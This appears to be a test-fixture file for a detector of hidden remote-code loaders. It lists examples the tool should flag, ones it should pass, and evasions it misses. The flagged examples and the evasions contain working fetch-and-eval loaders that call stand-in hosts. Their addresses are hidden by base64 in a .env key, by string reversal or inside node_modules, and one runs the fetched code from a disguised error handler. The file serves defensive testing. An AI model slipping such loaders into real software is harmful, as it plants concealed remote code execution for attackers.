import type { Examples } from "@doorward/core";

// https://api.example/check, as base64.
const hiddenAddress = "aHR0cHM6Ly9hcGkuZXhhbXBsZS9jaGVjaw==";

const manifest =
  '{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }\n';

/** Loaders that hide where they fetch from, and honest code that does one half of it. */
export const examples: Examples = {
  hits: [
    {
      name: "a loader split over a variable, a request and an error handler that runs the cookie of the answer",
      files: {
        "package.json": manifest,
        ".env": `AUTH_API_KEY="${hiddenAddress}"\n`,
        "server.js": 'require("./auth").verify();\n',
        "auth.js": `const axios = require("axios");
const { handleError } = require("./errors");
exports.verify = () =>
  axios.get(atob(process.env.AUTH_API_KEY)).then((answer) => handleError(answer.data.cookie));
`,
        "errors.js": `exports.handleError = (error) => {
  const handler = new Function.constructor("require", error);
  handler(require);
};
`,
      },
    },
    {
      name: "a request to a decoded address whose answer is evaluated",
      files: {
        "package.json": manifest,
        "server.js": `const url = Buffer.from("${hiddenAddress}", "base64").toString();
fetch(url).then((answer) => answer.text()).then((text) => eval(text));
`,
      },
    },
    {
      name: "a Python program that runs what it gets from a reversed address",
      files: {
        "main.py": `import urllib.request
address = "x/elpmaxe.ipa//:sptth"[::-1]
exec(urllib.request.urlopen(address).read())
`,
      },
    },
  ],
  misses: [
    {
      name: "a request to a decoded address whose answer is shown",
      why: "Nothing that comes back is run.",
      files: {
        "package.json": manifest,
        "server.js": `const url = atob("${hiddenAddress}");
fetch(url).then((answer) => answer.json()).then((data) => console.log(data.price));
`,
      },
    },
    {
      name: "a plug-in loader that fetches from an address anybody can read",
      why: "The address is written as it is, so that a reader sees where the code comes from.",
      files: {
        "package.json": manifest,
        "server.js": `fetch("https://plugins.example/theme.js")
  .then((answer) => answer.text())
  .then((text) => new Function(text)());
`,
      },
    },
    {
      name: "a program that decodes a picture from base64 and evaluates a formula",
      why: "What is decoded is not what is evaluated.",
      files: {
        "package.json": manifest,
        "server.js": `const picture = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ", "base64");
require("fs").writeFileSync("dot.png", picture);
console.log(eval("1 + 2"));
`,
      },
    },
  ],
  evasions: [
    {
      name: "an address that another server hands over in the open",
      caughtBy: "nothing",
      files: {
        "package.json": manifest,
        "server.js": `fetch("https://config.example/next.json")
  .then((answer) => answer.json())
  .then(({ next }) => import(next));
`,
      },
    },
    {
      name: "a package among the third parties' files that only turns an address around",
      caughtBy: "nothing",
      files: {
        "package.json": manifest,
        "server.js": `require("helper");
`,
        "node_modules/helper/index.js": `const host = "elpmaxe.gifnoc".split("").reverse().join("");
fetch("https://" + host).then((answer) => answer.text()).then((text) => new Function(text)());
`,
      },
    },
  ],
};
